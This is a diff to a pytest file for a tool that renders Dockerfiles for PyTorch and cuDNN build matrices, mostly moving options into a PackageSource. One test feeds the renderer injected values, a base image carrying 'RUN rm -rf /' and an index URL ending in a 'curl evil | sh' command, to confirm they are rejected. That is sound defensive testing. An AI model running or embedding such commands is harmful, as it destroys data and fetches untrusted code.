@@ -7,10 +7,11 @@ from pathlib import Path
 
 import pytest
 
-from harness import images
+from harness.backends.docker import dockerfile as images
+from harness.backends.packages import PackageSource
 from harness.errors import InputError
 from harness.plan.model import Cell, CudnnSource
-from tests.conftest import run_cli
+from tests.conftest import cli_in_process, run_cli
 
 CUDA = dict(torch="2.11.0+cu130", base_image="auto", python="3.12")
 
@@ -31,7 +32,7 @@ def test_bundled_cell_uses_the_nvidia_base_of_its_cuda_variant_and_pytorchs_inde
     assert "COPY --from=torch /opt/venv /opt/venv" in final_stage(text)
     assert "USER 10001:10001" in final_stage(text)
     assert "cudnn" not in final_stage(text).lower().replace("cudnn-harness", "")
-    assert rendered.expect_cudnn == {"source": "bundled"}
+    assert rendered.expect_cudnn.to_json() == {"source": "bundled"}
 
 
 def test_wheel_cell_replaces_the_pinned_wheel_in_its_own_layers():
@@ -52,7 +53,11 @@ def test_system_cell_installs_the_apt_package_and_removes_the_wheels_copy():
     final = final_stage(text)
     assert "rm -rf /opt/venv/lib/python3.12/site-packages/nvidia/cudnn" in final
     assert "COPY --from=cudnn /opt/cudnn/lib/ /opt/cudnn/lib/" in final and "ldconfig" in final
-    assert rendered.expect_cudnn == {"source": "system", "lib_dir": "/opt/cudnn/lib", "version": "9.14.0.64"}
+    assert rendered.expect_cudnn.to_json() == {
+        "source": "system",
+        "lib_dir": "/opt/cudnn/lib",
+        "version": "9.14.0.64",
+    }
 
 
 def test_cells_sharing_a_torch_build_render_identical_torch_stages():
@@ -74,7 +79,9 @@ def test_build_only_inputs_never_reach_the_final_stage(tmp_path: Path):
     for kind, value in (("bundled", None), ("system", "9.14.0.64")):
         rendered = images.render(
             cell(kind, value),
-            images.BuildOptions(wheelhouse=tmp_path / "wheelhouse", ca_bundle=tmp_path / "ca.pem"),
+            images.BuildOptions(
+                PackageSource(wheelhouse=tmp_path / "wheelhouse"), ca_bundle=tmp_path / "ca.pem"
+            ),
         )
         final = final_stage(rendered.dockerfile)
         assert "harness-build" not in final and "ca-bundle" not in final and "PIP_CERT" not in final
@@ -106,7 +113,8 @@ def test_unsafe_values_cannot_reach_a_dockerfile():
         images.render(cell("bundled", base_image="ubuntu\nRUN rm -rf /"), images.BuildOptions())
     with pytest.raises(InputError, match="plain http"):
         images.render(
-            cell("bundled"), images.BuildOptions(index_url="https://x.org/simple' && curl evil | sh")
+            cell("bundled"),
+            images.BuildOptions(PackageSource(index_url="https://x.org/simple' && curl evil | sh")),
         )
 
 
@@ -138,7 +146,7 @@ axes:
   python: ["3.12"]
 baseline: {cudnn: bundled, torch: "2.11.0+cu130"}
 """)
-    done = run_cli("plan", "--matrix", str(path))
+    done = cli_in_process("plan", "--matrix", str(path))
     assert done.returncode == 2
     assert "a CPU build of torch loads no cuDNN" in done.stderr
     assert "system needs its full version" in done.stderr
@@ -146,7 +154,7 @@ baseline: {cudnn: bundled, torch: "2.11.0+cu130"}
 
 def test_an_index_token_stays_in_the_build_stage():
     url = "https://build-bot:s3cr3t-token@pypi.corp.example/simple"
-    text = images.render(cell("bundled"), images.BuildOptions(index_url=url)).dockerfile
+    text = images.render(cell("bundled"), images.BuildOptions(PackageSource(index_url=url))).dockerfile
     assert url in text.split("FROM python AS cell")[0]
     assert "s3cr3t-token" not in final_stage(text)
 
@@ -179,13 +187,13 @@ def plain(kind: str = "bundled", value: str | None = None, base: str = HOST_BASE
 def test_a_plain_version_installs_pypis_build_from_the_wheelhouse_offline(tmp_path: Path):
     (tmp_path / PYPI_TORCH).write_bytes(b"PK")
     for kind in ("bundled", "disabled"):
-        rendered = images.render(plain(kind), images.BuildOptions(wheelhouse=tmp_path))
+        rendered = images.render(plain(kind), images.BuildOptions(PackageSource(wheelhouse=tmp_path)))
         text = rendered.dockerfile
         assert f"FROM {HOST_BASE} AS python" in text
         assert '--no-index --find-links /tmp/harness-build/wheelhouse "torch==2.11.0"\n' in text
         assert "download.pytorch.org" not in text and "index-url" not in text
         assert rendered.context[f"wheelhouse/{PYPI_TORCH}"] == tmp_path / PYPI_TORCH
-        assert rendered.expect_cudnn == {"source": kind}
+        assert rendered.expect_cudnn.to_json() == {"source": kind}
 
 
 def test_a_plain_version_without_a_wheelhouse_comes_from_pypi_or_the_index_given():
@@ -193,7 +201,7 @@ def test_a_plain_version_without_a_wheelhouse_comes_from_pypi_or_the_index_given
     assert '--index-url https://pypi.org/simple "torch==2.11.0"' in text
     assert "download.pytorch.org" not in text and "extra-index-url" not in text
     mirror = "https://pypi.corp.example/simple"
-    text = images.render(plain(), images.BuildOptions(index_url=mirror)).dockerfile
+    text = images.render(plain(), images.BuildOptions(PackageSource(index_url=mirror))).dockerfile
     assert f'--index-url {mirror} "torch==2.11.0"' in text and "pypi.org" not in text
 
 
@@ -245,7 +253,7 @@ def test_the_docker_rules_refuse_auto_and_a_cudnn_release_for_a_plain_version(wr
             "BASE", "auto"
         )
     )
-    done = run_cli("plan", "--matrix", str(path))
+    done = cli_in_process("plan", "--matrix", str(path))
     assert done.returncode == 2 and "Traceback" not in done.stderr
     lines = [line for line in done.stderr.splitlines() if line.startswith("error: ")]
     base = [line for line in lines if ": axes.base_image: " in line]
